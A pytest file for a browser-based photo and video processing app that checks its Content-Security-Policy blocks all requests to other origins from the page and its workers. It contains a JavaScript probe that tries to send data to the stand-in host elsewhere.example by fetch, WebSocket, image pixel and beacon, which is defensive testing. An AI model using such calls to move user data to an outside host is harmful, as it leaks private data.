"""Nothing is uploaded, and the browser enforces it: the Content-Security-Policy blocks every request to
another origin injected into the page or into its workers (a securitypolicyviolation; never sent), as
served by tools/serve (header and <meta>) and as on GitHub Pages (the <meta> alone)."""
from __future__ import annotations

import pytest
from tools.testkit import MEDIA
from tools.testkit.page_driver import App, local_site

ELSEWHERE = "https://elsewhere.example"
# Tries to reach another origin in every way its scope offers; returns the violations that caused.
SEND_ELSEWHERE = """async (elsewhere) => {
  const blocked = new Set();
  self.addEventListener("securitypolicyviolation", (e) => blocked.add(`${e.effectiveDirective} ${e.blockedURI}`));
  fetch(`${elsewhere}/upload`, { method: "POST", body: "plate" }).catch(() => null);
  try { new WebSocket(`${elsewhere.replace("https:", "wss:")}/socket`); } catch {}
  if (self.document) {
    new Image().src = `${elsewhere}/pixel.png`;
    navigator.sendBeacon(`${elsewhere}/beacon`, "plate");
  }
  const expected = self.document ? 4 : 2;
  for (let i = 0; i < 60 && blocked.size < expected; i++) await new Promise((r) => setTimeout(r, 50));
  return [...blocked].sort();
}"""
BLOCKED_IN_WORKER = [f"connect-src {ELSEWHERE}/upload", "connect-src wss://elsewhere.example/socket"]
BLOCKED_IN_PAGE = sorted(BLOCKED_IN_WORKER + [f"connect-src {ELSEWHERE}/beacon", f"img-src {ELSEWHERE}/pixel.png"])
# A worker loaded from a URL of the site, like onnxruntime-web's threads (whose own workers are busy).
URL_WORKER = "window.__probe = new Worker('./vendor/ort/ort-wasm-simd-threaded.mjs', { type: 'module', name: 'probe' })"


def open_app(browser, url: str, service_workers: str = "block") -> tuple[App, dict]:
    app = App(browser, url, service_workers=service_workers)
    failures = {}
    app.context.on("requestfailed", lambda r: failures.__setitem__(r.url, r.failure))
    app.page.goto(url)
    app.wait_ready()
    return app, failures


def python_worker(app):
    """PyScript's worker (a blob: URL), where the photos and videos are processed."""
    workers = [w for w in app.page.workers if w.url.startswith("blob:")]
    assert len(workers) == 1, [w.url for w in app.page.workers]
    return workers[0]


def assert_nothing_left(app, failures: dict) -> None:
    """A request the page did attempt elsewhere was stopped by the policy, before any DNS look-up."""
    external = app.external_requests()
    assert {url: failures.get(url) for url in external} == {url: "csp" for url in external}


@pytest.fixture(scope="module")
def served(browser, site_url):
    app, failures = open_app(browser, site_url)
    yield app, failures
    app.close()


def test_the_app_works_under_the_policy_and_the_page_cannot_send_elsewhere(served):
    app, failures = served
    app.upload([MEDIA / "dashcam-03.png"])
    assert app.result("dashcam-03.png").get_attribute("data-state") == "done"
    assert app.csp_violations() == [], "the policy blocked something the app needs"

    assert app.page.evaluate(SEND_ELSEWHERE, ELSEWHERE) == BLOCKED_IN_PAGE
    assert_nothing_left(app, failures)


def test_the_python_worker_cannot_send_elsewhere(served):
    app, failures = served
    assert python_worker(app).evaluate(SEND_ELSEWHERE, ELSEWHERE) == BLOCKED_IN_WORKER
    assert_nothing_left(app, failures)


def test_a_worker_loaded_from_the_site_cannot_send_elsewhere(served):
    """Workers loaded from a URL get the policy from their own response: the server's header."""
    app, failures = served
    with app.page.expect_worker(lambda w: w.url.endswith("ort-wasm-simd-threaded.mjs")) as info:
        app.page.evaluate(URL_WORKER)
    assert info.value.evaluate(SEND_ELSEWHERE, ELSEWHERE) == BLOCKED_IN_WORKER
    assert_nothing_left(app, failures)


def test_as_on_github_pages_the_meta_policy_guards_the_page_and_the_python_worker(browser):
    """No policy header from the host (Pages cannot send one): index.html's <meta>, and the service worker
    isolates the page and adds the policy header to what it serves."""
    with local_site(isolation=False) as url:
        app, failures = open_app(browser, url, service_workers="allow")
        try:
            assert app.page.evaluate("crossOriginIsolated")
            assert app.csp_violations() == []
            assert app.page.evaluate(SEND_ELSEWHERE, ELSEWHERE) == BLOCKED_IN_PAGE
            assert python_worker(app).evaluate(SEND_ELSEWHERE, ELSEWHERE) == BLOCKED_IN_WORKER
            # A worker loaded from a URL has no <meta>: the service worker's policy header guards it
            with app.page.expect_worker(lambda w: w.url.endswith("ort-wasm-simd-threaded.mjs")) as info:
                app.page.evaluate(URL_WORKER)
            assert info.value.evaluate(SEND_ELSEWHERE, ELSEWHERE) == BLOCKED_IN_WORKER
            assert_nothing_left(app, failures)
        finally:
            app.close()
